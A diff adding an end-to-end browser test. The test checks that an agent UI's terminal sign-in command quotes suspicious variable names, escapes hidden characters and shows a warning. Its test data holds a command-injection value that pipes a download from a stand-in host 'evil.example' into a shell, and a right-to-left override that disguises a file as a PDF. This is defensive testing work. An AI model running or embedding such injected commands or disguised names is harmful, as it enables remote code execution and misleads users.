@@ -164,3 +164,31 @@ def test_signing_in_with_an_api_key_in_the_page(page: Page, browser: Browser, ke
     expect(sign_in).to_be_hidden()
     prompt(page, "who am I")
     expect(agent_messages(page).last).to_contain_text("a key ending 4242")
+
+
+def test_a_terminal_sign_in_shows_odd_variable_names_quoted_and_hidden_characters_as_escapes(
+    page: Page, e2e_workspace: Path, own_config_home: Path
+) -> None:
+    with serve_in_thread(scripted_agent("env_sign_in", "--odd-terminal"), cwd=e2e_workspace) as live:
+        open_signed_in(page, live)
+        expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "auth-required")
+        sign_in = page.get_by_test_id("auth")
+        command = sign_in.get_by_test_id("auth-command")
+        expect(command).to_contain_text(
+            "env LOGIN_MODE=device '$(curl evil.example|sh)=1' $'SAFE\\u202eEMAN=x' "
+        )
+        expect(command).to_contain_text(
+            "env_sign_in.py --odd-terminal --login $'--out=invoice_\\u202efdp.exe'"
+        )
+        assert "\u202e" not in command.inner_text()  # the override itself is never in the line
+        assert "A=B" not in command.inner_text()
+        warning = sign_in.get_by_test_id("auth-command-warning")
+        expect(warning).to_contain_text("not plain names")
+        expect(warning).to_contain_text("'$(curl evil.example|sh)'")
+        expect(warning).to_contain_text("right-to-left override")
+        expect(warning).to_contain_text("Left out, since no variable can have that name: A=B.")
+        for variant, (viewport, scheme) in VARIANTS.items():  # the warning in view at every size
+            page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
+            page.set_viewport_size(viewport)
+            warning.scroll_into_view_if_needed()
+            screenshot(page, f"agents-sign-in-odd-command-{variant}")
